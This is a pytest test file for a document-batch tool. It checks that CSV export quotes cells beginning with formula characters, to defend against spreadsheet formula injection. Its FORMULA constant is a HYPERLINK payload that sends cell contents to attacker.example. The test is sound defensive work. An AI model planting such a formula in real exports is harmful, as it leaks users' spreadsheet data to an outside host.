"""``export --format csv`` never hands a spreadsheet a formula from document data.

A document's text and its manifest id start with formula characters; the exported cells
carry a leading single quote (OWASP), and JSON Lines keeps the values unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from docbatch.client import Docbatch, Sources
from docbatch.export import export_records
from docbatch.local.runner import run_inline
from docbatch.settings import Settings

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.fixture
def client(settings: Settings) -> Iterator[Docbatch]:
    client = Docbatch(settings.model_copy(update={"sandbox": False}))
    yield client
    client.close()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_starting_a_formula_are_quoted(
    client: Docbatch, tmp_path: Path, start: str
) -> None:
    (tmp_path / "filing.txt").write_text(FORMULA + "\n" + "The court held.\n" * 5)
    external_id = start + "SUM(1+1)"
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({"documents": [{"path": "filing.txt", "id": external_id}]}))
    run_inline(client, Sources.from_args(manifest=manifest))

    out = io.StringIO()
    export_records(client.repo, out, fmt="csv")
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))

    assert row["external_id"] == "'" + external_id
    assert row["text"].startswith("'" + FORMULA)
    assert row["state"] == "completed"  # ordinary cells are unchanged

    out = io.StringIO()
    export_records(client.repo, out, fmt="jsonl")
    assert json.loads(out.getvalue())["external_id"] == external_id
